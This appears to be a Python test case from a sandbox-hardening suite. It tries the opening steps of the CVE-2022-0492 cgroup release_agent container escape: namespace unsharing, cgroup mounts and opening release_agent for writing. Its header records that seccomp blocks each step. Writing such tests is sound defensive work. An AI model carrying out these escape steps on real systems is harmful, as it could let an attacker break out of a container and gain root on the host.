# attack = "Linux, CVE-2022-0492: writes what the host runs as root when a group is empty"
# threats = [39, 42]
# outcome = "OK"
# stdout = """
# unshare: EPERM
# mount: EPERM
# mount v2: EPERM
# release_agent: ENOENT
# """
# caught_by = ["seccomp"]
import os

from attack import attempt, checked, libc

CLONE_NEWCGROUP, CLONE_NEWNS, CLONE_NEWUSER = 0x02000000, 0x00020000, 0x10000000
os.mkdir("/tmp/groups")
attempt("unshare", lambda: checked(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)))
attempt("mount", lambda: checked(libc.mount(b"none", b"/tmp/groups", b"cgroup", 0, b"rdma")))
attempt("mount v2", lambda: checked(libc.mount(b"none", b"/tmp/groups", b"cgroup2", 0, None)))
for place in ("/tmp/groups", "/sys/fs/cgroup", "/sys/fs/cgroup/rdma", "/sys/fs/cgroup/memory"):
    if os.path.exists(f"{place}/release_agent"):
        print("ESCAPED", place)
attempt("release_agent", os.open, "/sys/fs/cgroup/memory/release_agent", os.O_WRONLY)
